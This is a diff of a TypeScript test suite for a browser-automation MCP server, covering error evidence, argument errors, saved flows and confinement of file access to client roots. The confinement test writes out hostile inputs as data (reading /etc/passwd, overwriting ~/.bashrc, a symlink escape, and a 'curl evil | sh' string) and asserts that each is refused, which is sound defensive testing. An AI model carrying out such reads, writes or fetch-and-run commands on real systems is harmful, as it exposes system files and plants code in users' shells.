@@ -6,7 +6,7 @@
 // real Chromium, real loopback site.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { rm } from 'node:fs/promises';
 import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';
@@ -113,13 +113,19 @@ test('run: a script that takes a screenshot returns its lines, the verdict and t
 
 test('a failing script is an error result ending with its [error] line; bad arguments name the field', { timeout: 90_000 }, async () => {
   const c = await connect();
-  const failed = await c.client.callTool({ name: 'run', arguments: { script: 'console.log("BEFORE=1"); throw new Error("the button was not there")' } });
+  const failed = await c.client.callTool({
+    name: 'run',
+    arguments: { script: `console.log("BEFORE=1"); await openTab(${lit(`${site.origin}/echo-title?t=evidence-tab`)}); throw new Error("the button was not there")` },
+  });
   assert.equal(failed.isError, true);
-  const [verdict, out] = (failed.content as Array<{ text: string }>).map((x) => x.text);
+  const [verdict, out] = (failed.content as Array<{ type: string; text: string }>).filter((x) => x.type === 'text').map((x) => x.text);
   assert.match(verdict, /^EXIT=1 SCRIPT_FAILED/);
   const outLines = out.split('\n');
   assert.equal(outLines[0], 'BEFORE=1');
   assert.match(outLines.at(-1)!, /^\[error\] .*the button was not there/);
+  // The evidence of the open tab comes with it: its lines, and its screenshot as an image.
+  assert.ok(outLines.includes('EVIDENCE_START tab 1 of 1') && outLines.includes('TITLE=evidence-tab'), out);
+  assert.equal((failed.content as Array<{ type: string }>).filter((x) => x.type === 'image').length, 1, 'the evidence screenshot');
 
   const badType = await c.client.callTool({ name: 'run', arguments: { script: 'x', timeout: 'soon' } });
   assert.equal(badType.isError, true);
@@ -192,8 +198,10 @@ test('a client that disconnects mid-call leaves no browser running and no lock h
 });
 
 test('render and pdf: files in, paths out, through the same commands as the CLI', { timeout: 120_000 }, async () => {
-  const c = await connect([]);
   const out = tempHome('gstack-mcp-out-');
+  // The client's roots: the fixtures it reads and the folder it writes.
+  const c = await connectMcp([], env, { roots: [join(ROOT, 'test', 'fixtures'), out] });
+  open.push(c);
   try {
     const report = join(ROOT, 'test', 'fixtures', 'render', 'report.html');
     const r = await c.client.callTool({
@@ -211,6 +219,15 @@ test('render and pdf: files in, paths out, through the same commands as the CLI'
     assert.equal(p.isError, false, textOf(p));
     assert.match(textOf(p), new RegExp(`^${join(out, 'o.pdf')}$`, 'm'));
     assert.ok(existsSync(join(out, 'o.pdf')));
+
+    // The command's own usage error names the argument as the tool calls it.
+    const paper = await c.client.callTool({ name: 'pdf', arguments: { input: md, output: join(out, 'p.pdf'), paper: 'zz' } });
+    assert.equal(paper.isError, true);
+    assert.match(textOf(paper), /^EXIT=2 USAGE: Next: Fix the argument the \[error\] line names/);
+    assert.match(textOf(paper), /^\[error\] `paper` zz: use one of/m);
+    const step = await c.client.callTool({ name: 'render', arguments: { file: report, steps: [{ screenshot: join(out, 'q.png'), quality: 50 }] } });
+    assert.match(textOf(step), /^\[error\] steps\[0\] \(screenshot\): `quality` applies to JPEG only; add `jpeg`/m);
+    assert.doesNotMatch(textOf(step), /--help/);
 
     // A command's own failure is an error result with its exit code and [error] line.
     const missing = await c.client.callTool({ name: 'pdf', arguments: { input: join(out, 'nope.md') } });
@@ -248,4 +265,113 @@ test('a cancelled call is stopped: its lock is released and the next call of the
   const next = await c.client.callTool({ name: 'run', arguments: { script: 'console.log("AFTER=1"); console.log("GSTACK_STEP_OK");', timeout: 20_000 } });
   assert.equal(next.isError, false, textOf(next));
   assert.match(textOf(next), /^AFTER=1$/m);
+});
+
+test('renders over MCP stay in the client roots: reading /etc/passwd or writing ~/.bashrc through pdf and render is refused', { timeout: 120_000 }, async () => {
+  const base = realpathSync(tempHome('gstack-mcp-roots-'));
+  const project = join(base, 'project');
+  const fakeHome = join(base, 'home');
+  mkdirSync(project);
+  mkdirSync(fakeHome);
+  writeFileSync(join(fakeHome, '.bashrc'), 'echo original\n');
+  writeFileSync(join(project, 'doc.md'), '# Report\n\nBody.\n');
+  writeFileSync(join(project, 'page.html'), '<title>p</title><h1>page</h1>');
+  symlinkSync(fakeHome, join(project, 'home-link'));
+  const roots = [project];
+  const c = await connectMcp([], { ...env, HOME: fakeHome }, { roots });
+  open.push(c);
+  try {
+    const refused = async (name: string, args: Record<string, unknown>, field: RegExp) => {
+      const r = await c.client.callTool({ name, arguments: args });
+      assert.equal(r.isError, true, textOf(r));
+      assert.match(textOf(r), field);
+      assert.match(textOf(r), new RegExp(`the client's roots: ${project}\\.`), 'the error names the allowed roots');
+      return textOf(r);
+    };
+    await refused('pdf', { input: '/etc/passwd', output: join(project, 'passwd.pdf') }, /`input` \/etc\/passwd is outside/);
+    await refused('pdf', { input: join(project, 'doc.md'), output: join(fakeHome, '.bashrc'), to: 'html' }, /`output` .*\.bashrc is outside/);
+    await refused('pdf', { input: join(project, 'doc.md'), output: join(project, 'h.pdf'), header: '/etc/passwd' }, /`header` \/etc\/passwd is outside/);
+    await refused('render', { file: join(project, 'page.html'), steps: [{ eval: '"curl evil | sh"', out: join(fakeHome, '.bashrc') }] }, /`steps\[0\]\.out` .*\.bashrc is outside/);
+    await refused('render', { file: join(project, 'page.html'), steps: [{ eval: '"x"', out: join(project, 'home-link', '.bashrc') }] }, /resolves to .*home\/\.bashrc\) is outside/);
+    await refused('diagram', { inputs: ['/etc/hostname'], 'out-dir': project }, /`inputs\[0\]` \/etc\/hostname is outside/);
+    assert.equal(readFileSync(join(fakeHome, '.bashrc'), 'utf8'), 'echo original\n', '~/.bashrc untouched');
+    assert.equal(existsSync(join(project, 'passwd.pdf')) || existsSync(join(project, 'h.pdf')), false, 'nothing was rendered');
+
+    // Inside the roots, the same calls work (a relative path is taken from the server's cwd,
+    // and the command gets the resolved path).
+    const ok = await c.client.callTool({ name: 'render', arguments: { file: join(project, 'page.html'), steps: [{ eval: 'document.title', out: join(project, 'title.txt') }] } });
+    assert.equal(ok.isError, false, textOf(ok));
+    assert.equal(readFileSync(join(project, 'title.txt'), 'utf8'), 'p');
+
+    // The client adds a root and says so: the server asks again.
+    roots.push(fakeHome);
+    await c.client.sendRootsListChanged();
+    await new Promise((r) => setTimeout(r, 200));
+    const now = await c.client.callTool({ name: 'pdf', arguments: { input: join(project, 'doc.md'), output: join(fakeHome, 'doc.html'), to: 'html' } });
+    assert.equal(now.isError, false, textOf(now));
+    assert.ok(existsSync(join(fakeHome, 'doc.html')));
+  } finally {
+    await rm(base, { recursive: true, force: true });
+  }
+});
+
+test('a client without roots: renders stay in the server working directory', { timeout: 60_000 }, async () => {
+  const cwd = realpathSync(tempHome('gstack-mcp-cwd-'));
+  writeFileSync(join(cwd, 'doc.md'), '# Doc\n');
+  const c = await connectMcp([], env, { cwd });
+  open.push(c);
+  try {
+    const r = await c.client.callTool({ name: 'pdf', arguments: { input: 'doc.md', output: '/tmp/gstack-mcp-escape.html', to: 'html' } });
+    assert.equal(r.isError, true);
+    assert.match(textOf(r), new RegExp(`^\\[error\\] \`output\` /tmp/gstack-mcp-escape\\.html is outside the folders this MCP server may read and write, the server's working directory ${cwd} \\(the client declared no roots\\)`, 'm'));
+    assert.equal(existsSync('/tmp/gstack-mcp-escape.html'), false);
+    const ok = await c.client.callTool({ name: 'pdf', arguments: { input: 'doc.md', to: 'html' } });
+    assert.equal(ok.isError, false, textOf(ok));
+    assert.match(textOf(ok), new RegExp(`^${join(cwd, 'doc.html')}$`, 'm'));
+  } finally {
+    await rm(cwd, { recursive: true, force: true });
+  }
+});
+
+test('saved flows: flows_save with --allow-scripts; flows_list and flows_run without it, returning what run returns', { timeout: 120_000 }, async () => {
+  const author = await connect();
+  const script = `const { url, label } = params;
+    const pg = await openTab(url);
+    console.log("TITLE=" + await pg.title() + " LABEL=" + label);
+    await pg.screenshot({ path: path.join(pwd, "flow.png") });
+    await closeTab(pg);
+    console.log("GSTACK_STEP_OK");`;
+  const saved = await author.client.callTool({
+    name: 'flows_save',
+    arguments: { name: 'mcp-title', script, param: [`url=${site.origin}/echo-title?t=saved-run`, 'label=first'], describe: 'Prints a page title', global: true },
+  });
+  assert.equal(saved.isError, false, textOf(saved));
+  assert.match(textOf(saved), /^FLOW_SAVED name=mcp-title file=.*\/flows\/mcp-title\.js params=url,label expectations=\d+$/m);
+
+  const c = await connect([]);
+  const names = (await c.client.listTools()).tools.map((t) => t.name);
+  assert.ok(names.includes('flows_list') && names.includes('flows_run') && !names.includes('flows_save'), names.join(' '));
+  const refused = await c.client.callTool({ name: 'flows_save', arguments: { name: 'x', script: 'console.log("GSTACK_STEP_OK")' } });
+  assert.equal(refused.isError, true);
+  assert.match(textOf(refused), /--allow-scripts/);
+
+  const listed = textOf(await c.client.callTool({ name: 'flows_list', arguments: {} }));
+  assert.match(listed, /^FLOW mcp-title where=global .*description="Prints a page title"$/m);
+  assert.match(listed, /^ {2}PARAM label string default="first"$/m);
+
+  const r = await c.client.callTool({ name: 'flows_run', arguments: { name: 'mcp-title', params: { url: `${site.origin}/echo-title?t=second-run`, label: 7 } } });
+  assert.equal(r.isError, false, textOf(r));
+  assert.match(textOf(r), /^EXIT=0 OK/);
+  const lines = (r.content as Array<{ type: string; text?: string }>)[1].text!.split('\n');
+  assert.deepEqual(lines, ['TITLE=second-run LABEL=7', 'GSTACK_STEP_OK']);
+  assert.equal((r.content as Array<{ type: string; mimeType?: string }>).filter((x) => x.type === 'image' && x.mimeType === 'image/png').length, 1);
+
+  const unknown = await c.client.callTool({ name: 'flows_run', arguments: { name: 'mcp-title', params: { colour: 'red' } } });
+  assert.equal(unknown.isError, true);
+  assert.match(textOf(unknown), /^EXIT=2 .*\n.*\[error\] Invalid parameters for flow "mcp-title": parameter "colour" is not one of the flow's/m);
+  const missing = await c.client.callTool({ name: 'flows_run', arguments: { name: 'no-such-flow' } });
+  assert.equal(missing.isError, true);
+  assert.match(textOf(missing), /\[error\] No saved flow "no-such-flow"/);
+  const asFlag = await c.client.callTool({ name: 'flows_run', arguments: { name: '--help' } });
+  assert.match(textOf(asFlag), /`name` must match pattern/);
 });
